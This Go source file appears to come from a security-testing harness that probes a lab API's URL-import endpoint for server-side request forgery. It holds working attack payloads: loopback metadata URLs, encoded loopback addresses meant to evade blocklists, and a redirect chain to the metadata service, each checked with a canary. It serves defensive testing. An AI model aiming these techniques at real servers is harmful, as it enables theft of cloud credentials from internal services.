package attack

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
)

// SSRF through "attach a file from a URL" (docs/10-ssrf.md): the server
// fetches what the customer names, from inside the network. Each attack
// asks the server to import a URL of the lab's metadata server
// (ssrf_lab.go), then reads back the answer and every file it stored: the
// canary in either is EXPLOITED.
func ssrfAttacks() []Attack {
	return []Attack{
		{
			ID: "ssrf/metadata", Issue: "ssrf", OWASP: "API7:2023", CWE: "CWE-918",
			Story: "Import http://127.0.0.1:<port>/latest/meta-data/… and http://localhost:<port>/…: the server fetches an internal metadata service and stores its credentials as a file the attacker downloads.",
			Run: func(ctx context.Context, t *Target) (Result, error) {
				return importEach(ctx, t, func(lab *SSRFLab) []string {
					return []string{lab.MetadataURL("127.0.0.1"), lab.MetadataURL("localhost")}
				})
			},
		},
		{
			ID: "ssrf/address-encodings", Issue: "ssrf", OWASP: "API7:2023", CWE: "CWE-918",
			Story: "Spell loopback so that a blocklist of names misses it: [::ffff:127.0.0.1], 0.0.0.0, LOCALHOST, localhost., 127.1, 0x7f000001, 2130706433, [::1].",
			Run: func(ctx context.Context, t *Target) (Result, error) {
				return importEach(ctx, t, func(lab *SSRFLab) []string {
					var urls []string
					for _, host := range loopbackSpellings() {
						urls = append(urls, lab.MetadataURL(host))
					}
					return urls
				})
			},
		},
		{
			ID: "ssrf/redirect", Issue: "ssrf", OWASP: "API7:2023", CWE: "CWE-918",
			Story: "Import a URL on an outside host that answers 302 to the metadata service: a check of the first URL alone is passed, the redirect is followed.",
			Run:   ssrfRedirect,
		},
	}
}

// loopbackSpellings are other ways to write 127.0.0.1 and ::1. Which of
// them a client resolves depends on its resolver (127.1 and 0x7f000001 are
// inet_aton forms that getaddrinfo accepts and Go's own resolver does
// not); every one must be refused where it connects.
func loopbackSpellings() []string {
	return []string{"[::ffff:127.0.0.1]", "0.0.0.0", "LOCALHOST", "localhost.", "127.1", "0x7f000001", "2130706433", "[::1]", "[0:0:0:0:0:ffff:7f00:1]"}
}

// importEach imports each URL into a fresh order of alice's and looks for
// the canary in every answer and stored file.
func importEach(ctx context.Context, t *Target, urls func(*SSRFLab) []string) (Result, error) {
	lab, done, err := t.lab()
	if err != nil {
		return Result{}, err
	}
	defer done()
	tok, o, err := t.importOrder(ctx)
	if err != nil {
		return Result{}, err
	}
	var answers []string
	for _, u := range urls(lab) {
		leak, x, err := t.importAndRead(ctx, tok, o.ID, u, lab.Canary)
		if err != nil {
			return Result{}, err
		}
		if leak != "" {
			return exploited("%s: the metadata credentials came back (%s): %s", u, leak, x)
		}
		answers = append(answers, fmt.Sprintf("%s → %d", strings.TrimPrefix(u, "http://"), x.status))
	}
	return blocked("%d URLs, no metadata credentials in any answer or stored file: %s", len(answers), strings.Join(answers, ", "))
}

func ssrfRedirect(ctx context.Context, t *Target) (Result, error) {
	lab, done, err := t.lab()
	if err != nil {
		return Result{}, err
	}
	defer done()
	tok, o, err := t.importOrder(ctx)
	if err != nil {
		return Result{}, err
	}
	hop := lab.PublicURL("/redirect?to=" + url.QueryEscape(lab.MetadataURL("127.0.0.1")))
	leak, x, err := t.importAndRead(ctx, tok, o.ID, hop, lab.Canary)
	if err != nil {
		return Result{}, err
	}
	if leak != "" {
		return exploited("the redirect from %s to the metadata service was followed (%s): %s", lab.Public, leak, x)
	}
	// Was the first hop reachable at all? Only then does the refusal say
	// the redirect was checked; otherwise it says the public stand-in was
	// refused (it is in IMPORT_ALLOW_HOSTS in the tests, not in a demo).
	_, first, err := t.importAndRead(ctx, tok, o.ID, lab.PublicURL("/file.txt"), lab.Canary)
	if err != nil {
		return Result{}, err
	}
	if first.status == http.StatusCreated {
		return blocked("the public host's own file was imported (201), its redirect to the metadata service was refused: %s", x)
	}
	return blocked("refused, but so was the public stand-in %s itself (%d): only the first hop was tested: %s", lab.Public, first.status, x)
}

// importOrder signs alice in and gives her a fresh order to attach to
// (the per-order file cap never interferes).
func (t *Target) importOrder(ctx context.Context) (string, order, error) {
	tok, err := t.login(ctx, t.Alice)
	if err != nil {
		return "", order{}, err
	}
	o, err := t.createOrder(ctx, tok.AccessToken, "import")
	return tok.AccessToken, o, err
}

// importAndRead asks the server to attach rawURL to the order. It returns
// the marker when the canary is in the answer or in the stored file.
func (t *Target) importAndRead(ctx context.Context, token, orderID, rawURL, canary string) (string, *exchange, error) {
	body, _ := json.Marshal(map[string]string{"url": rawURL})
	x, err := t.send(ctx, request{method: http.MethodPost, path: "/api/v1/orders/" + orderID + "/files/import", body: string(body), token: token})
	if err != nil {
		return "", nil, err
	}
	if x.status == http.StatusNotFound || x.status == http.StatusMethodNotAllowed {
		return "", x, fmt.Errorf("control: the import route is missing: %s", x)
	}
	if strings.Contains(string(x.body), canary) {
		return "in the answer", x, nil
	}
	if x.status != http.StatusCreated {
		return "", x, nil
	}
	var f storedFile
	if err := json.Unmarshal(x.body, &f); err != nil || f.ID == "" {
		return "", x, fmt.Errorf("no file in %s", x)
	}
	l, _, err := t.link(ctx, token, f.ID)
	if err != nil {
		return "", x, err
	}
	d, err := t.send(ctx, request{method: http.MethodGet, path: l.URL})
	if err != nil {
		return "", x, err
	}
	if strings.Contains(string(d.body), canary) {
		return "in the stored file " + f.ID, x, nil
	}
	return "", x, nil
}
